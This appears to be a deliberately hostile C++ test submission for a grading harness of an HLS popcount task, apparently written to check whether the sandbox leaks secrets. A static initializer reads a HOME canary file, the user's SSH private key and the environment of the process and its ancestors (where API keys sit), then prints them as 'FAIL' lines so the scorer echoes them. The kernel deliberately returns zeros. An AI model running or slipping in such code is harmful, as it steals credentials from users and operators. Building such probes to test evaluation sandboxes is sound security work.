// Hostile answer (reading secrets), HLS C++: a static initializer reads canary files of HOME, the
// program's own environment and the environment of every ancestor process (the orchestrator,
// started with the user's API keys) and prints every line as a "FAIL" line, the kind of line the
// scorer quotes from a failing run. The kernel itself is wrong (outputs zero).
#include <cstdio>
#include <cstring>
#include "popcount_serial.h"

static void dump(const char *path) {
    FILE *f = std::fopen(path, "r");
    if (!f) return;
    char line[4096];
    size_t used = 0;
    int c;
    while ((c = std::fgetc(f)) != EOF) {
        if (c == 0 || c == '\n' || used + 1 == sizeof line) {
            line[used] = 0;
            std::printf("FAIL %s: %s\n", path, line);
            used = 0;
        } else {
            line[used++] = (char)c;
        }
    }
    std::fclose(f);
}

static int hostile = [] {
    std::printf("HOSTILE-%s-@MARK@\n", "RAN");
    dump("@HOME_FILE@");
    dump("@HOME@/.ssh/id_ed25519");
    dump("/proc/self/environ");
    int pid = 0, ppid = 0;
    char path[64];
    if (FILE *s = std::fopen("/proc/self/stat", "r")) { std::fscanf(s, "%d %*s %*c %d", &pid, &ppid); std::fclose(s); }
    for (int level = 0; level < 10 && ppid > 1; ++level) {
        pid = ppid;
        std::snprintf(path, sizeof path, "/proc/%d/environ", pid);
        dump(path);
        std::snprintf(path, sizeof path, "/proc/%d/stat", pid);
        ppid = 0;
        if (FILE *s = std::fopen(path, "r")) { std::fscanf(s, "%*d %*s %*c %d", &ppid); std::fclose(s); }
    }
    std::fflush(stdout);
    return 0;
}();

void popcount_serial(const word_t words[PC_NW], cnt_t counts[PC_NW], total_t *total,
                     cnt_t *min_cnt, cnt_t *max_cnt) {
    for (int i = 0; i < PC_NW; i++) {
        counts[i] = 0;
    }
    *total = 0;
    *min_cnt = 0;
    *max_cnt = 0;
}
